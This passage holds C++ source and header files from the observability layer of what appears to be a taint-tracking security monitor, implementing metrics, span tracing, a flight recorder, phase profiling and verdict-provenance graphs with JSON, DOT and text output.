    std::atomic<uint64_t> max_{0};
};

/**
 * Power-of-two bucketed latency histogram. Bucket 0 holds zero;
 * bucket i (i >= 1) holds values in [2^(i-1), 2^i). The unit is up
 * to the caller (fleet session times record microseconds).
 */
class Histogram
{
  public:
    static constexpr size_t BUCKETS = 40;

    void
    record(uint64_t value)
    {
        size_t b = value == 0
                       ? 0
                       : std::min<size_t>(BUCKETS - 1,
                                          std::bit_width(value));
        buckets_[b].fetch_add(1, std::memory_order_relaxed);
        count_.fetch_add(1, std::memory_order_relaxed);
        sum_.fetch_add(value, std::memory_order_relaxed);
    }

    uint64_t
    count() const
    {
        return count_.load(std::memory_order_relaxed);
    }

    uint64_t
    sum() const
    {
        return sum_.load(std::memory_order_relaxed);
    }

    uint64_t
    bucket(size_t i) const
    {
        return buckets_[i].load(std::memory_order_relaxed);
    }

    /** Inclusive upper bound of bucket @p i (UINT64_MAX for last). */
    static uint64_t upperBound(size_t i);

  private:
    std::atomic<uint64_t> buckets_[BUCKETS]{};
    std::atomic<uint64_t> count_{0};
    std::atomic<uint64_t> sum_{0};
};

/** Point-in-time copy of a Gauge. */
struct GaugeValue
{
    uint64_t value = 0;
    uint64_t max = 0;

    bool
    operator==(const GaugeValue &) const = default;
};

/** Point-in-time copy of a Histogram. */
struct HistogramValue
{
    uint64_t count = 0;
    uint64_t sum = 0;
    /** (inclusive upper bound, count) for each non-empty bucket. */
    std::vector<std::pair<uint64_t, uint64_t>> buckets;

    /**
     * Value at quantile @p q in [0, 1], conservatively reported as
     * the inclusive upper bound of the bucket holding the q-th
     * ranked sample (so p50/p95/p99 never under-state a latency).
     * Deterministic — a pure function of the bucket counts — and 0
     * for an empty histogram.
     */
    uint64_t percentile(double q) const;

    bool
    operator==(const HistogramValue &) const = default;
};

/**
 * Ordered, plain-data copy of a registry. This is what travels in
 * Report.telemetry and what sinks render; ordered maps make the
 * output deterministic.
 */
struct MetricSnapshot
{
    std::map<std::string, uint64_t> counters;
    std::map<std::string, GaugeValue> gauges;
    std::map<std::string, HistogramValue> histograms;

    /** Value of @p name, or 0 when absent. */
    uint64_t counter(const std::string &name) const;
    GaugeValue gauge(const std::string &name) const;

    /**
     * Fold @p other in: counters and histograms add, gauges keep
     * the max (a fleet-level queue depth is a level, not a total).
     */
    void merge(const MetricSnapshot &other);

    bool
    operator==(const MetricSnapshot &) const = default;
};

/**
 * Owns named metric cells. get-or-create is mutex-guarded; the
 * returned references are stable for the registry's lifetime, so
 * callers look a cell up once and then update it lock-free.
 */
class MetricRegistry
{
  public:
    MetricRegistry() = default;
    MetricRegistry(const MetricRegistry &) = delete;
    MetricRegistry &operator=(const MetricRegistry &) = delete;

    Counter &counter(std::string_view name);
    Gauge &gauge(std::string_view name);
    Histogram &histogram(std::string_view name);

    MetricSnapshot snapshot() const;

  private:
    mutable std::mutex mutex_;
    std::deque<std::pair<std::string, Counter>> counters_;
    std::deque<std::pair<std::string, Gauge>> gauges_;
    std::deque<std::pair<std::string, Histogram>> histograms_;
    std::unordered_map<std::string_view, Counter *> counterIndex_;
    std::unordered_map<std::string_view, Gauge *> gaugeIndex_;
    std::unordered_map<std::string_view, Histogram *> histogramIndex_;
};

} // namespace hth::obs

#endif // HTH_OBS_METRICS_HH
