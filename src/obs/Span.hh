/**
 * @file
 * Span tracer: a bounded ring of begin/end time records giving a
 * monitored run a *timeline*, where the PhaseProfiler gives it a
 * *budget*.
 *
 * Design constraints, in order:
 *
 *  1. Low overhead. A SpanTracer is a preallocated fixed-capacity
 *     ring of plain 24-byte records; record() is an index increment
 *     and a struct store, no heap, no locks. When the profiler is the
 *     span source no extra clock reads happen at all — the profiler
 *     already read the clock at the phase transition and hands both
 *     timestamps over.
 *
 *  2. Single-threaded by construction. Each Hth instance owns one
 *     tracer and each monitored run executes on one thread (the
 *     fleet gives every worker its own Hth), so the ring needs no
 *     synchronisation and stays tsan-clean.
 *
 *  3. Standard output format. Lanes export as Chrome/Perfetto
 *     `trace_event` JSON ("X" complete events plus "M" metadata), so
 *     a fleet trace opens directly in chrome://tracing or
 *     ui.perfetto.dev with one pid/tid lane per session/worker.
 *
 * Span ids borrow the PhaseProfiler phases (same order, so the
 * conversion is a cast) and add fine-grained ids for the operations
 * the phases are too coarse to show: image loading, static analysis
 * of one image, superblock formation, one CLIPS pump, anomaly
 * scoring, and the whole monitor() call.
 */

#ifndef HTH_OBS_SPAN_HH
#define HTH_OBS_SPAN_HH

#include <cstdint>
#include <iosfwd>
#include <string>
#include <vector>

#include "obs/Profiler.hh"

namespace hth::obs
{

/** What a span measures. The first PHASE_COUNT values mirror Phase. */
enum class SpanId : uint8_t
{
    Setup,          //!< Phase::Setup
    VmExecute,      //!< Phase::VmExecute
    TaintOps,       //!< Phase::TaintOps
    Kernel,         //!< Phase::Kernel
    EventDispatch,  //!< Phase::EventDispatch
    ClipsMatch,     //!< Phase::ClipsMatch
    ClipsFire,      //!< Phase::ClipsFire
    StaticAnalysis, //!< Phase::StaticAnalysis
    Other,          //!< Phase::Other

    Monitor,        //!< one whole Hth::monitor() call
    ImageLoad,      //!< kernel mapping a process's images
    ImageAnalysis,  //!< static pre-screening of one image
    SuperblockForm, //!< VM chaining one superblock
    ClipsPump,      //!< one Secpert event -> assert + run + retract
    AnomalyScore,   //!< scoring telemetry against a baseline
};

inline constexpr size_t SPAN_ID_COUNT = 15;

/** Stable lower_snake name, e.g. "clips_pump". */
const char *spanName(SpanId id);

/** Phases map onto the identically-ordered leading SpanId values. */
constexpr SpanId
spanIdOfPhase(Phase phase)
{
    return static_cast<SpanId>(static_cast<uint8_t>(phase));
}

/** One closed span. Times are steady-clock nanoseconds. */
struct SpanRecord
{
    uint64_t beginNs = 0;
    uint64_t endNs = 0;
    SpanId id = SpanId::Other;

    bool operator==(const SpanRecord &) const = default;
};

/**
 * Bounded ring of SpanRecords. Capacity is fixed at construction;
 * once full, the oldest record is overwritten and counted as
 * dropped — tracing never allocates after construction and never
 * stops the run.
 */
class SpanTracer
{
  public:
    static constexpr size_t DEFAULT_CAPACITY = 4096;

    explicit SpanTracer(size_t capacity = DEFAULT_CAPACITY);

    /** Steady-clock nanoseconds, same epoch as PhaseProfiler. */
    static uint64_t nowNs();

    /** Append a closed span (overwrites the oldest when full). */
    void record(SpanId id, uint64_t begin_ns, uint64_t end_ns);

    size_t capacity() const { return ring_.size(); }

    /** Total record() calls since construction / reset(). */
    uint64_t recorded() const { return recorded_; }

    /** Records overwritten because the ring was full. */
    uint64_t
    dropped() const
    {
        return recorded_ > ring_.size() ? recorded_ - ring_.size()
                                        : 0;
    }

    /** Live records, oldest first (ring order == time order). */
    std::vector<SpanRecord> snapshot() const;

    void reset();

  private:
    std::vector<SpanRecord> ring_;
    size_t head_ = 0;           //!< next write position
    uint64_t recorded_ = 0;
};

/**
 * RAII span guard. Null tracer => no-op (two pointer tests), the
 * same contract as PhaseScope.
 */
class SpanScope
{
  public:
    SpanScope(SpanTracer *tracer, SpanId id)
        : tracer_(tracer), id_(id)
    {
        if (tracer_)
            beginNs_ = SpanTracer::nowNs();
    }

    ~SpanScope()
    {
        if (tracer_)
            tracer_->record(id_, beginNs_, SpanTracer::nowNs());
    }

    SpanScope(const SpanScope &) = delete;
    SpanScope &operator=(const SpanScope &) = delete;

  private:
    SpanTracer *tracer_;
    SpanId id_;
    uint64_t beginNs_ = 0;
};

/**
 * One exported timeline lane: a (pid, tid) pair in the Chrome trace
 * model. Fleet exports use pid = session, tid = worker.
 */
struct SpanLane
{
    int pid = 1;
    int tid = 1;
    std::string processName;
    std::string threadName;
    std::vector<SpanRecord> spans;
    uint64_t dropped = 0;
};

/**
 * Chrome/Perfetto `trace_event` JSON for @p lanes: one "M" metadata
 * pair per lane naming the process/thread, then one "X" complete
 * event per span. Timestamps are microseconds rebased to the
 * earliest span across all lanes, so the trace starts at t=0.
 */
std::string renderTraceJson(const std::vector<SpanLane> &lanes);

void writeTraceJson(const std::vector<SpanLane> &lanes,
                    std::ostream &out);

} // namespace hth::obs

#endif // HTH_OBS_SPAN_HH
