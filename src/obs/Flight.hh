/**
 * @file
 * Flight recorder: a bounded ring of short, fixed-size notes about
 * the most recent events and rule fires of one session — the
 * crash-box counterpart to the span tracer's timeline.
 *
 * The recorder runs continuously but its contents are only ever
 * *read* on the cold paths that need a post-mortem: a High-severity
 * verdict (the provenance dump attaches the last-N window) or a
 * worker fault (the fleet attaches it to the failed result). Steady
 * state therefore has to be cheap: entries are fixed char arrays
 * preallocated at construction, note() copies a truncated message
 * into the ring slot, and nothing allocates after the constructor.
 *
 * Like SpanTracer it is single-threaded by design — one recorder
 * per Hth instance, one monitored run per thread.
 */

#ifndef HTH_OBS_FLIGHT_HH
#define HTH_OBS_FLIGHT_HH

#include <cstdint>
#include <string>
#include <string_view>
#include <vector>

namespace hth::obs
{

class FlightRecorder
{
  public:
    static constexpr size_t DEFAULT_ENTRIES = 256;

    /** Payload bytes kept per entry; longer notes are truncated. */
    static constexpr size_t TEXT_CAPACITY = 120;

    /** @p entries == 0 constructs a disabled recorder. */
    explicit FlightRecorder(size_t entries = DEFAULT_ENTRIES);

    bool enabled() const { return !ring_.empty(); }

    size_t capacity() const { return ring_.size(); }

    /** Total note() calls since construction / reset(). */
    uint64_t total() const { return total_; }

    /**
     * Record one note. @p kind is a single tag character by
     * convention ('E' event, 'F' rule fire, 'W' warning, 'A'
     * anomaly); @p time is the session's virtual clock.
     */
    void note(uint64_t time, char kind, std::string_view text);

    /**
     * Render the surviving window oldest-first, one line per entry:
     * "t=<time> <kind> <text>". Cold path — this allocates freely.
     */
    std::vector<std::string> dump() const;

    void reset();

  private:
    struct Entry
    {
        uint64_t time = 0;
        char kind = '?';
        uint8_t length = 0;
        char text[TEXT_CAPACITY];
    };

    std::vector<Entry> ring_;
    size_t head_ = 0;           //!< next write position
    uint64_t total_ = 0;
};

} // namespace hth::obs

#endif // HTH_OBS_FLIGHT_HH
