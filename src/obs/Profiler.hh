/**
 * @file
 * Phase profiler: attributes a run's wall time to the coarse phases
 * of the paper's overhead model (§8.2): VM execution, taint
 * propagation, kernel emulation, event dispatch, CLIPS match and
 * fire, static analysis.
 *
 * The profiler is transition-based: it keeps exactly one "current
 * phase" and reads the clock only when the phase *changes*, never
 * per scope pair. Scopes are placed at coarse boundaries (the
 * scheduler loop, a syscall, an event dispatch), so steady-state
 * guest execution pays nothing — the phase simply stays VmExecute.
 * A consequence worth having: the per-phase times sum to the total
 * profiled time exactly, by construction.
 *
 * PhaseScope is a save/restore RAII guard and is null-safe: with a
 * null profiler (telemetry off) it compiles down to two pointer
 * tests.
 *
 * The profiler is deliberately single-threaded — each Hth instance
 * owns one and each monitored run executes on one thread. Fleet
 * aggregation merges the resulting PhaseBreakdown values, which are
 * plain data.
 */

#ifndef HTH_OBS_PROFILER_HH
#define HTH_OBS_PROFILER_HH

#include <array>
#include <cstdint>
#include <string>

namespace hth::obs
{

class SpanTracer;

/** Where a monitored run spends its time. */
enum class Phase : uint8_t
{
    Setup,          //!< process spawn, image loading, world setup
    VmExecute,      //!< decode + execute, incl. inline taint prop
    TaintOps,       //!< bulk tag work outside the interpreter loop
    Kernel,         //!< emulated syscall + native call handling
    EventDispatch,  //!< Harrier building + routing events
    ClipsMatch,     //!< pattern matching / agenda refresh
    ClipsFire,      //!< RHS evaluation of fired rules
    StaticAnalysis, //!< pre-screening of loaded images
    Other,          //!< anything not claimed by a scope
};

inline constexpr size_t PHASE_COUNT = 9;

/** Stable lower_snake name, e.g. "vm_execute". */
const char *phaseName(Phase phase);

/** Per-phase totals; plain data, mergeable across runs. */
struct PhaseBreakdown
{
    std::array<uint64_t, PHASE_COUNT> ns{};
    std::array<uint64_t, PHASE_COUNT> entries{};
    uint64_t totalNs = 0;

    uint64_t
    phaseNs(Phase phase) const
    {
        return ns[static_cast<size_t>(phase)];
    }

    /** Fraction of totalNs spent in @p phase (0 when unprofiled). */
    double share(Phase phase) const;

    void merge(const PhaseBreakdown &other);

    bool
    operator==(const PhaseBreakdown &) const = default;
};

class PhaseProfiler
{
  public:
    /** Begin attributing time, starting in @p initial. */
    void start(Phase initial = Phase::Other);

    /** Stop the clock; breakdown() totals are final until start(). */
    void stop();

    bool
    running() const
    {
        return running_;
    }

    /**
     * Enter @p phase, returning the phase that was current (for the
     * caller to restore). No-op returning @p phase when stopped.
     */
    Phase switchTo(Phase phase);

    /**
     * Totals accumulated so far. Safe to call while running: the
     * open phase's elapsed time is included without disturbing the
     * live state.
     */
    PhaseBreakdown breakdown() const;

    void reset();

    /**
     * Mirror every closed phase segment into @p sink as a span.
     * The profiler already read the clock at both ends of the
     * segment, so span emission adds no clock reads — phase lanes
     * come for free at transition granularity. Null disables.
     */
    void setSpanSink(SpanTracer *sink) { spanSink_ = sink; }

  private:
    static uint64_t nowNs();

    void emitSpan(Phase phase, uint64_t begin_ns, uint64_t end_ns);

    PhaseBreakdown acc_;
    uint64_t lastNs_ = 0;
    Phase current_ = Phase::Other;
    bool running_ = false;
    SpanTracer *spanSink_ = nullptr;
};

/**
 * RAII phase guard: switches to @p phase, restores the previous
 * phase on destruction. Null profiler => no-op.
 */
class PhaseScope
{
  public:
    PhaseScope(PhaseProfiler *profiler, Phase phase)
        : profiler_(profiler)
    {
        if (profiler_)
            previous_ = profiler_->switchTo(phase);
    }

    ~PhaseScope()
    {
        if (profiler_)
            profiler_->switchTo(previous_);
    }

    PhaseScope(const PhaseScope &) = delete;
    PhaseScope &operator=(const PhaseScope &) = delete;

  private:
    PhaseProfiler *profiler_;
    Phase previous_ = Phase::Other;
};

} // namespace hth::obs

#endif // HTH_OBS_PROFILER_HH
