/**
 * @file
 * StatsSink: renders RunTelemetry for humans (aligned text) and for
 * machines (line-oriented JSON — one self-contained JSON object per
 * line, so consumers can stream, grep and tail without a full-file
 * parser).
 */

#ifndef HTH_OBS_STATS_SINK_HH
#define HTH_OBS_STATS_SINK_HH

#include <iosfwd>
#include <string>

#include "obs/Telemetry.hh"

namespace hth::obs
{

/** Human-readable multi-line report (phases, then metrics). */
std::string renderText(const RunTelemetry &telemetry);

/**
 * Line-oriented JSON. Emits one object per line:
 *
 *   {"type":"run","profiled":true,"total_ns":N}
 *   {"type":"phase","name":"vm_execute","ns":N,"entries":N}
 *   {"type":"counter","name":"os.syscalls","value":N}
 *   {"type":"gauge","name":"fleet.queue_depth","value":N,"max":N}
 *   {"type":"histogram","name":...,"count":N,"sum":N,
 *    "p50":N,"p95":N,"p99":N,"buckets":[[le,count],...]}
 */
std::string renderJsonLines(const RunTelemetry &telemetry);

void writeJsonLines(const RunTelemetry &telemetry, std::ostream &out);

/** JSON string escaping for metric names (quotes, control chars). */
std::string jsonEscape(const std::string &raw);

} // namespace hth::obs

#endif // HTH_OBS_STATS_SINK_HH
