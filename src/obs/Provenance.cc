#include "obs/Provenance.hh"

#include <ostream>
#include <sstream>

#include "obs/StatsSink.hh"

namespace hth::obs
{

const std::string *
ProvNode::attr(const std::string &key) const
{
    for (const auto &[k, v] : attrs)
        if (k == key)
            return &v;
    return nullptr;
}

ProvNode &
ProvenanceGraph::node(const std::string &id, const std::string &kind)
{
    auto it = nodeIndex_.find(id);
    if (it != nodeIndex_.end())
        return nodes_[it->second];
    nodeIndex_.emplace(id, nodes_.size());
    nodes_.push_back({id, kind, {}});
    return nodes_.back();
}

void
ProvenanceGraph::attr(ProvNode &node, const std::string &key,
                      const std::string &value)
{
    if (!node.attr(key))
        node.attrs.emplace_back(key, value);
}

void
ProvenanceGraph::edge(const std::string &from, const std::string &to,
                      const std::string &label)
{
    std::string key = from + "\x1f" + to + "\x1f" + label;
    if (!edgeKeys_.insert(std::move(key)).second)
        return;
    edges_.push_back({from, to, label});
}

bool
ProvenanceGraph::hasNode(const std::string &id) const
{
    return nodeIndex_.count(id) != 0;
}

const ProvNode *
ProvenanceGraph::findNode(const std::string &id) const
{
    auto it = nodeIndex_.find(id);
    return it == nodeIndex_.end() ? nullptr : &nodes_[it->second];
}

void
ProvenanceGraph::writeJson(std::ostream &out) const
{
    out << "{\"nodes\":[";
    bool first = true;
    for (const ProvNode &n : nodes_) {
        if (!first)
            out << ",";
        first = false;
        out << "\n{\"id\":\"" << jsonEscape(n.id)
            << "\",\"kind\":\"" << jsonEscape(n.kind)
            << "\",\"attrs\":{";
        bool firstAttr = true;
        for (const auto &[k, v] : n.attrs) {
            if (!firstAttr)
                out << ",";
            firstAttr = false;
            out << "\"" << jsonEscape(k) << "\":\"" << jsonEscape(v)
                << "\"";
        }
        out << "}}";
    }
    out << "\n],\"edges\":[";
    first = true;
    for (const ProvEdge &e : edges_) {
        if (!first)
            out << ",";
        first = false;
        out << "\n{\"from\":\"" << jsonEscape(e.from)
            << "\",\"to\":\"" << jsonEscape(e.to)
            << "\",\"label\":\"" << jsonEscape(e.label) << "\"}";
    }
    out << "\n],\"flight\":[";
    first = true;
    for (const std::string &line : flight) {
        if (!first)
            out << ",";
        first = false;
        out << "\n\"" << jsonEscape(line) << "\"";
    }
    out << "\n]}\n";
}

std::string
ProvenanceGraph::toJson() const
{
    std::ostringstream out;
    writeJson(out);
    return out.str();
}

namespace
{

/** DOT double-quoted string (escape backslash and quote only). */
std::string
dotEscape(const std::string &raw)
{
    std::string out;
    out.reserve(raw.size());
    for (char c : raw) {
        if (c == '"' || c == '\\')
            out.push_back('\\');
        if (c == '\n') {
            out += "\\n";
            continue;
        }
        out.push_back(c);
    }
    return out;
}

/** One-line human summary of a node, for chains and DOT labels. */
std::string
nodeSummary(const ProvNode &n)
{
    auto get = [&](const char *key) {
        const std::string *v = n.attr(key);
        return v ? *v : std::string();
    };
    if (n.kind == "warning")
        return "[" + get("severity") + "] " + get("rule") + ": " +
               get("message");
    if (n.kind == "fire")
        return "rule " + get("rule") + " fired";
    if (n.kind == "fact")
        return get("template") + " fact " + get("fact");
    if (n.kind == "event") {
        std::string s = get("syscall");
        const std::string direction = get("direction");
        const std::string resource = get("resource");
        const std::string source = get("source");
        if (!direction.empty()) {
            s += ' ';
            s += direction;
        }
        if (!resource.empty()) {
            s += ' ';
            s += resource;
        } else if (!source.empty()) {
            s += ' ';
            s += source;
            s += " -> ";
            s += get("target");
        }
        return s;
    }
    if (n.kind == "origin")
        return get("class") + " origin " + get("type") + " " +
               get("name");
    if (n.kind == "finding")
        return "static " + get("kind") + " in " + get("image") +
               " @" + get("address");
    if (n.kind == "anomaly")
        return "anomaly score " + get("score") + " vs baseline " +
               get("baseline");
    return n.id;
}

} // namespace

std::string
ProvenanceGraph::toDot() const
{
    std::ostringstream out;
    out << "digraph provenance {\n"
        << "  rankdir=LR;\n"
        << "  node [shape=box, fontname=\"monospace\"];\n";
    for (const ProvNode &n : nodes_)
        out << "  \"" << dotEscape(n.id) << "\" [label=\""
            << dotEscape(n.kind + "\n" + nodeSummary(n)) << "\"];\n";
    for (const ProvEdge &e : edges_)
        out << "  \"" << dotEscape(e.from) << "\" -> \""
            << dotEscape(e.to) << "\" [label=\""
            << dotEscape(e.label) << "\"];\n";
    out << "}\n";
    return out.str();
}

std::string
ProvenanceGraph::renderChains() const
{
    // Adjacency in edge insertion order; chains are tiny, a linear
    // scan per node would also do.
    std::unordered_map<std::string, std::vector<const ProvEdge *>>
        adj;
    for (const ProvEdge &e : edges_)
        adj[e.from].push_back(&e);

    std::ostringstream out;
    std::vector<std::string> path;   //!< cycle guard
    auto walk = [&](auto &&self, const std::string &id,
                    size_t depth) -> void {
        const ProvNode *n = findNode(id);
        if (!n)
            return;
        for (const std::string &seen : path)
            if (seen == id)
                return;
        path.push_back(id);
        auto it = adj.find(id);
        if (it != adj.end()) {
            for (const ProvEdge *e : it->second) {
                const ProvNode *to = findNode(e->to);
                if (!to)
                    continue;
                out << std::string(2 * (depth + 1), ' ') << e->label
                    << ": " << nodeSummary(*to) << "\n";
                self(self, e->to, depth + 1);
            }
        }
        path.pop_back();
    };

    for (const ProvNode &n : nodes_) {
        if (n.kind != "warning")
            continue;
        out << nodeSummary(n) << "\n";
        walk(walk, n.id, 0);
    }
    if (!flight.empty()) {
        out << "flight recorder (last " << flight.size()
            << " entries):\n";
        for (const std::string &line : flight)
            out << "  " << line << "\n";
    }
    return out.str();
}

} // namespace hth::obs
