/**
 * @file
 * Verdict provenance graph: the evidence chain behind each warning,
 * as a first-class, serialisable artifact.
 *
 * The paper's pitch is that HTH can *explain* a verdict — tainted
 * origins flow through syscalls into rule fires — but at report time
 * that chain used to be scattered: the Warning had a message string,
 * the CLIPS fire trace had fact ids, the facts had origin multislots
 * and the static findings sat in their own list. A ProvenanceGraph
 * ties them together:
 *
 *     warning --fired_by--> fire --matched--> fact
 *       fact --describes--> event --*_origin--> origin
 *       fact --describes--> finding | anomaly
 *
 * Nodes and edges keep insertion order (deterministic output for
 * identical runs) and deduplicate by id, so two warnings sharing an
 * origin converge on one origin node. The graph renders as JSON (for
 * tools), DOT (for graphviz) and indented text chains (for
 * `hthd --explain`).
 *
 * This type is pure data + rendering: assembly lives in
 * secpert::Secpert::buildProvenance(), which owns the fact store.
 */

#ifndef HTH_OBS_PROVENANCE_HH
#define HTH_OBS_PROVENANCE_HH

#include <cstdint>
#include <deque>
#include <iosfwd>
#include <string>
#include <unordered_map>
#include <unordered_set>
#include <vector>

namespace hth::obs
{

/** One evidence node. Attrs keep insertion order, first set wins. */
struct ProvNode
{
    std::string id;     //!< unique, e.g. "warning:0", "origin:SOCKET:pc2"
    std::string kind;   //!< "warning", "fire", "fact", "event",
                        //!< "origin", "finding", "anomaly"
    std::vector<std::pair<std::string, std::string>> attrs;

    const std::string *attr(const std::string &key) const;

    bool operator==(const ProvNode &) const = default;
};

/** One directed evidence edge, from explanandum to evidence. */
struct ProvEdge
{
    std::string from;
    std::string to;
    std::string label;

    bool operator==(const ProvEdge &) const = default;
};

class ProvenanceGraph
{
  public:
    /** Get-or-create @p id; kind is set on first creation. The
     * reference is stable for the graph's lifetime (deque store). */
    ProvNode &node(const std::string &id, const std::string &kind);

    /** Set @p key on @p node unless already present. */
    static void attr(ProvNode &node, const std::string &key,
                     const std::string &value);

    /** Add an edge; exact duplicates are dropped. */
    void edge(const std::string &from, const std::string &to,
              const std::string &label);

    bool hasNode(const std::string &id) const;
    const ProvNode *findNode(const std::string &id) const;

    const std::deque<ProvNode> &nodes() const { return nodes_; }
    const std::vector<ProvEdge> &edges() const { return edges_; }

    bool empty() const { return nodes_.empty(); }

    /**
     * Flight-recorder window attached when the verdict was High (or
     * the worker faulted); empty otherwise. Rides along in the JSON
     * dump so one artifact holds the whole post-mortem.
     */
    std::vector<std::string> flight;

    /**
     * Single JSON object:
     *   {"nodes":[{"id":..,"kind":..,"attrs":{..}},...],
     *    "edges":[{"from":..,"to":..,"label":..},...],
     *    "flight":[...]}
     */
    std::string toJson() const;
    void writeJson(std::ostream &out) const;

    /** Graphviz digraph, one node/edge per line, insertion order. */
    std::string toDot() const;

    /**
     * Indented text chains for humans: one block per warning node,
     * depth-first along the edges, each line "<label>: <summary>".
     * Shared evidence is printed again per chain (chains are short);
     * cycles are cut.
     */
    std::string renderChains() const;

    bool operator==(const ProvenanceGraph &other) const
    {
        return nodes_ == other.nodes_ && edges_ == other.edges_ &&
               flight == other.flight;
    }

  private:
    std::deque<ProvNode> nodes_;
    std::vector<ProvEdge> edges_;
    std::unordered_map<std::string, size_t> nodeIndex_;
    std::unordered_set<std::string> edgeKeys_;
};

} // namespace hth::obs

#endif // HTH_OBS_PROVENANCE_HH
