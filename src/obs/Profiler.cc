#include "obs/Profiler.hh"

#include <chrono>

#include "obs/Span.hh"

namespace hth::obs
{

const char *
phaseName(Phase phase)
{
    switch (phase) {
    case Phase::Setup: return "setup";
    case Phase::VmExecute: return "vm_execute";
    case Phase::TaintOps: return "taint_ops";
    case Phase::Kernel: return "kernel";
    case Phase::EventDispatch: return "event_dispatch";
    case Phase::ClipsMatch: return "clips_match";
    case Phase::ClipsFire: return "clips_fire";
    case Phase::StaticAnalysis: return "static_analysis";
    case Phase::Other: return "other";
    }
    return "?";
}

double
PhaseBreakdown::share(Phase phase) const
{
    if (totalNs == 0)
        return 0.0;
    return static_cast<double>(phaseNs(phase)) /
           static_cast<double>(totalNs);
}

void
PhaseBreakdown::merge(const PhaseBreakdown &other)
{
    for (size_t i = 0; i < PHASE_COUNT; ++i) {
        ns[i] += other.ns[i];
        entries[i] += other.entries[i];
    }
    totalNs += other.totalNs;
}

uint64_t
PhaseProfiler::nowNs()
{
    return std::chrono::duration_cast<std::chrono::nanoseconds>(
               std::chrono::steady_clock::now().time_since_epoch())
        .count();
}

void
PhaseProfiler::start(Phase initial)
{
    if (running_)
        stop();
    current_ = initial;
    ++acc_.entries[static_cast<size_t>(initial)];
    lastNs_ = nowNs();
    running_ = true;
}

void
PhaseProfiler::stop()
{
    if (!running_)
        return;
    uint64_t now = nowNs();
    uint64_t elapsed = now - lastNs_;
    acc_.ns[static_cast<size_t>(current_)] += elapsed;
    acc_.totalNs += elapsed;
    emitSpan(current_, lastNs_, now);
    running_ = false;
}

Phase
PhaseProfiler::switchTo(Phase phase)
{
    if (!running_)
        return phase;
    Phase previous = current_;
    if (phase == previous)
        return previous;
    uint64_t now = nowNs();
    uint64_t elapsed = now - lastNs_;
    acc_.ns[static_cast<size_t>(previous)] += elapsed;
    acc_.totalNs += elapsed;
    emitSpan(previous, lastNs_, now);
    lastNs_ = now;
    current_ = phase;
    ++acc_.entries[static_cast<size_t>(phase)];
    return previous;
}

PhaseBreakdown
PhaseProfiler::breakdown() const
{
    PhaseBreakdown out = acc_;
    if (running_) {
        uint64_t elapsed = nowNs() - lastNs_;
        out.ns[static_cast<size_t>(current_)] += elapsed;
        out.totalNs += elapsed;
    }
    return out;
}

void
PhaseProfiler::emitSpan(Phase phase, uint64_t begin_ns,
                        uint64_t end_ns)
{
    if (spanSink_)
        spanSink_->record(spanIdOfPhase(phase), begin_ns, end_ns);
}

void
PhaseProfiler::reset()
{
    acc_ = PhaseBreakdown{};
    running_ = false;
    current_ = Phase::Other;
    lastNs_ = 0;
}

} // namespace hth::obs
