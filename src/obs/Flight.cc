#include "obs/Flight.hh"

#include <algorithm>
#include <cstring>

namespace hth::obs
{

FlightRecorder::FlightRecorder(size_t entries) : ring_(entries)
{
}

void
FlightRecorder::note(uint64_t time, char kind, std::string_view text)
{
    if (ring_.empty())
        return;
    Entry &e = ring_[head_];
    e.time = time;
    e.kind = kind;
    e.length =
        (uint8_t)std::min<size_t>(text.size(), TEXT_CAPACITY);
    std::memcpy(e.text, text.data(), e.length);
    head_ = head_ + 1 == ring_.size() ? 0 : head_ + 1;
    ++total_;
}

std::vector<std::string>
FlightRecorder::dump() const
{
    std::vector<std::string> out;
    size_t live = std::min<uint64_t>(total_, ring_.size());
    out.reserve(live);
    size_t start = total_ > ring_.size() ? head_ : 0;
    for (size_t i = 0; i < live; ++i) {
        const Entry &e = ring_[(start + i) % ring_.size()];
        std::string line = "t=" + std::to_string(e.time) + " ";
        line.push_back(e.kind);
        line.push_back(' ');
        line.append(e.text, e.length);
        out.push_back(std::move(line));
    }
    return out;
}

void
FlightRecorder::reset()
{
    head_ = 0;
    total_ = 0;
}

} // namespace hth::obs
