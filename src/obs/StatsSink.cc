#include "obs/StatsSink.hh"

#include <cstdio>
#include <ostream>
#include <sstream>

namespace hth::obs
{

namespace
{

/** "12.3%" / "1.234 ms" style helpers for the text renderer. */
std::string
fmtPercent(double fraction)
{
    char buf[32];
    std::snprintf(buf, sizeof buf, "%5.1f%%", fraction * 100.0);
    return buf;
}

std::string
fmtMs(uint64_t ns)
{
    char buf[32];
    std::snprintf(buf, sizeof buf, "%.3f ms",
                  static_cast<double>(ns) / 1e6);
    return buf;
}

} // namespace

std::string
jsonEscape(const std::string &raw)
{
    std::string out;
    out.reserve(raw.size());
    for (char c : raw) {
        switch (c) {
        case '"': out += "\\\""; break;
        case '\\': out += "\\\\"; break;
        case '\n': out += "\\n"; break;
        case '\r': out += "\\r"; break;
        case '\t': out += "\\t"; break;
        default:
            if (static_cast<unsigned char>(c) < 0x20) {
                char buf[8];
                std::snprintf(buf, sizeof buf, "\\u%04x", c);
                out += buf;
            } else {
                out += c;
            }
        }
    }
    return out;
}

std::string
renderText(const RunTelemetry &telemetry)
{
    std::ostringstream out;
    out << "phases (total " << fmtMs(telemetry.phases.totalNs)
        << (telemetry.profiled ? "" : ", profiling off") << ")\n";
    for (size_t i = 0; i < PHASE_COUNT; ++i) {
        Phase phase = static_cast<Phase>(i);
        uint64_t ns = telemetry.phases.ns[i];
        if (ns == 0 && telemetry.phases.entries[i] == 0)
            continue;
        out << "  " << fmtPercent(telemetry.phases.share(phase))
            << "  " << fmtMs(ns) << "  " << phaseName(phase) << " ("
            << telemetry.phases.entries[i] << " entries)\n";
    }
    if (!telemetry.metrics.counters.empty()) {
        out << "counters\n";
        for (const auto &[name, value] :
             telemetry.metrics.counters)
            out << "  " << name << " = " << value << "\n";
    }
    if (!telemetry.metrics.gauges.empty()) {
        out << "gauges\n";
        for (const auto &[name, value] : telemetry.metrics.gauges)
            out << "  " << name << " = " << value.value
                << " (max " << value.max << ")\n";
    }
    if (!telemetry.metrics.histograms.empty()) {
        out << "histograms\n";
        for (const auto &[name, value] :
             telemetry.metrics.histograms) {
            out << "  " << name << ": count " << value.count
                << ", sum " << value.sum << "\n";
            for (const auto &[le, n] : value.buckets)
                out << "    le " << le << ": " << n << "\n";
        }
    }
    return out.str();
}

void
writeJsonLines(const RunTelemetry &telemetry, std::ostream &out)
{
    out << "{\"type\":\"run\",\"profiled\":"
        << (telemetry.profiled ? "true" : "false")
        << ",\"total_ns\":" << telemetry.phases.totalNs << "}\n";
    for (size_t i = 0; i < PHASE_COUNT; ++i) {
